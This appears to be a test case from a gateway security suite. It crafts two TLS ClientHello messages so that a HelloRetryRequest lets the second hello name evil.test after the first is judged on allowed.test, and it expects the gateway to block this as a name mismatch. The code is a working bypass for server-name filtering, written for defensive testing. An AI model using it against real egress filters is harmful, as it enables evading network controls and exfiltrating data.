"""Another server name in the second hello.

A first hello without a usable key makes the server ask for another one (HelloRetryRequest), and
common servers go by the second. The first names allowed.test and is judged; the second, in plain
text too, names another site of the same address.

Not covered: the name that is asked for inside TLS (technique tls-inner-host).
"""

ATTACK = {
    "title": "Server name of another site in a second hello",
    "group": "tls",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-367", "CWE-290", "R065", "RFC 8446 section 4.1.4"],
    "arrives": [{"what": "tcp", "address": "93.184.216.34", "name": "evil.test"}],
    "stopped": [{"reason": ["name-mismatch"], "entry": ["transparent"]}],
}


def attempt(kit):
    import os

    import wire

    versions, groups = wire.extension(43, b"\x02\x03\x04"), wire.extension(10, b"\0\2\0\x1d")
    signatures = wire.extension(13, b"\0\6\x04\x03\x08\x04\x04\x01")
    common = versions + groups + signatures
    no_key = wire.extension(51, b"\0\0")
    key = wire.extension(51, b"\0\x24\0\x1d\0\x20" + os.urandom(32))
    first = wire.in_records(wire.hello(wire.server_names(b"allowed.test"), common, no_key))
    second = wire.in_records(wire.hello(wire.server_names(b"evil.test"), common, key))
    kit.talk("allowed.test", 443, [wire.text(first), wire.text(second)], patience=0.2)
